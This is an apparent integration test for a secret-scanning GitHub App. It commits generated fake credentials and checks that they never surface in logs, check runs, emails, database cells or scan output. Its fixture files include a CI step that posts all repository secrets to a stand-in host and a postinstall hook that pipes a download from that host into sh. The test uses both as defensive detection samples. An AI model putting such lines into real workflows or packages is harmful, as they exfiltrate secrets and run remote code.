/**
 * Secrets end nowhere: neither the App's own nor those that a commit leaks stand in the database, the log, check runs, mails, or what a
 * scan prints. The whole application between its simulators, then every cell of every table.
 */
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { type DemoWorld, startWorld } from "../../scripts/demo/start-world.ts";
import { openDatabase } from "../../src/database/open-database.ts";
import { runCli } from "../cli/run-cli.ts";
import { createGitHistory, later, type Person } from "../simulator/git-history.ts";
import { until as eventually } from "../support/until.ts";

const ADA: Person = { name: "Ada", email: "ada@example.com", at: "2026-05-01T12:00:00+02:00" };
const letters = (n: number) => randomBytes(n).toString("hex").slice(0, n);

/** What a commit leaks, put together at run time, in the forms and places that rules look at. */
const LEAKED = {
  github: `ghp_${letters(36)}`,
  aws: `AKIA${letters(16)
    .toUpperCase()
    .replaceAll(/[0189]/g, "Q")}`,
  awsSecret: letters(40),
  slack: `https://hooks.slack.com/services/T${letters(8).toUpperCase()}/B${letters(8).toUpperCase()}/${letters(24)}`,
  password: letters(20),
  bearer: `ghs_${letters(36)}`,
  key: letters(64),
};
const FILES = {
  ".env": [
    `GITHUB_TOKEN=${LEAKED.github}`,
    `AWS_ACCESS_KEY_ID=${LEAKED.aws}`,
    `AWS_SECRET_ACCESS_KEY=${LEAKED.awsSecret}`,
    `SLACK_WEBHOOK=${LEAKED.slack}`,
    `DATABASE_URL=postgres://app:${LEAKED.password}@db.example.com/app`,
    "",
  ].join("\n"),
  "config/id_rsa": `-----BEGIN RSA ${"PRIVATE"} KEY-----\n${LEAKED.key}\n-----END RSA ${"PRIVATE"} KEY-----\n`,
  // Findings of other rules show the code that they are about.
  ".github/workflows/ci.yml": [
    "on: push",
    "jobs:",
    "  build:",
    "    runs-on: ubuntu-latest",
    "    steps:",
    `      - run: curl -s -H "Authorization: Bearer ${LEAKED.bearer}" -d "$\{{ toJSON(secrets) }}" https://collect.example.test/in`,
    "",
  ].join("\n"),
  "package.json": `{"scripts":{"postinstall":"curl -u app:${LEAKED.password} https://collect.example.test/x | sh"}}\n`,
};
/** No secret: shows that what is looked through holds what was found. */
const SHOWN = "collect.example.test";

let world: DemoWorld;
let dataDir: string;
beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), "countersign-canaries-"));
  world = await startWorld({ hurry: 20, keepsLog: true, variables: { DATA_DIR: dataDir, REFS_MINUTES: "1" } });
}, 240_000);
afterAll(async () => {
  await world?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

test("what the App and a commit must not tell is told nowhere", async () => {
  const { github, sendgrid } = world;
  github.addAccount({ login: "ada", name: "Ada", emails: [ADA.email] });
  const gitDir = world.gitDir("app.git");
  const history = createGitHistory({ gitDir });
  const first = history.commit({ message: "First\n", author: ADA, files: { "README.md": "# Here\n" } });
  github.addRepository({ owner: "acme", name: "app", gitDir, collaborators: { ada: "write" } });
  await github.install({ on: "acme" });
  const head = history.commit({ message: "Set up\n", author: later(ADA, 60), parents: [first], files: FILES });
  // Refusals and cut answers end in errors that are logged.
  github.fail({ operation: "apps/create-installation-access-token", with: 403, times: 1 });
  github.fail({ operation: "checks/create", with: "reset", times: 1 });
  await github.push("acme/app", { after: head }, { by: "ada" });
  const run = await until(() => github.checkRuns({ headSha: head }).find(({ status }) => status === "completed"));
  await until(() => sendgrid.inbox().length > 0);
  await github.rerequestRun(run.id, { by: "ada" });
  await sleep(2000);
  const key = github.app.privateKey ?? "";
  const own = {
    "private key": key.split("\n")[3] ?? "",
    "webhook secret": github.app.webhookSecret,
    "mail key": sendgrid.apiKey,
  };
  const { suite: _, ...shown } = run;
  await world.stopApp();
  const scans = await Promise.all(
    ["text", "jsonl", "sarif"].map(async (format) => {
      const { stdout, stderr } = await runCli(["scan", "--git-dir", gitDir, "--format", format]);
      return [`scan as ${format}`, stdout + stderr] as const;
    }),
  );
  const places = new Map<string, string>([
    ["log", world.log.join("")],
    ["check run", JSON.stringify(shown)],
    ["mails", JSON.stringify(sendgrid.inbox())],
    ["database", await everyCell()],
    ...scans,
  ]);
  const found = [...places].flatMap(([place, text]) => [
    ...Object.entries({ ...LEAKED, ...own }).flatMap(([name, secret]) =>
      text.includes(secret) ? [`${name} in ${place}`] : [],
    ),
    ...(/\bghs_[A-Za-z0-9._-]{20,}|\beyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/.test(text)
      ? [`a token in ${place}`]
      : []),
  ]);
  expect(found).toEqual([]);
  const silent = [...places]
    .filter(([place, text]) => place !== "log" && !text.includes(SHOWN))
    .map(([place]) => place);
  expect([silent, (places.get("log") ?? "").includes("push judged")]).toEqual([[], true]);
}, 240_000);

const until = <T>(find: () => T | undefined | false) =>
  eventually(find, { show: () => world.troubles.slice(-5).join("\n") });

/** Every cell of every table, the queue's included; bytes as the text that they are. */
async function everyCell(): Promise<string> {
  const database = await openDatabase({ url: null, dataDir });
  try {
    const { rows: tables } = await database.sql.executeSql(`
      SELECT quote_ident(table_schema) || '.' || quote_ident(table_name) AS name FROM information_schema.tables
      WHERE table_schema IN ('public', 'pgboss') AND table_type = 'BASE TABLE'`);
    const all: string[] = [];
    for (const { name } of tables as { name: string }[]) {
      const { rows } = await database.sql.executeSql(`SELECT * FROM ${name}`);
      all.push(
        JSON.stringify(rows, (_, value: unknown) =>
          typeof value === "object" && value !== null && Reflect.get(value, "type") === "Buffer"
            ? Buffer.from(Reflect.get(value, "data") as number[]).toString("utf8") // as Buffer.toJSON writes it
            : value,
        ),
      );
    }
    return all.join("\n");
  } finally {
    await database.close();
  }
}
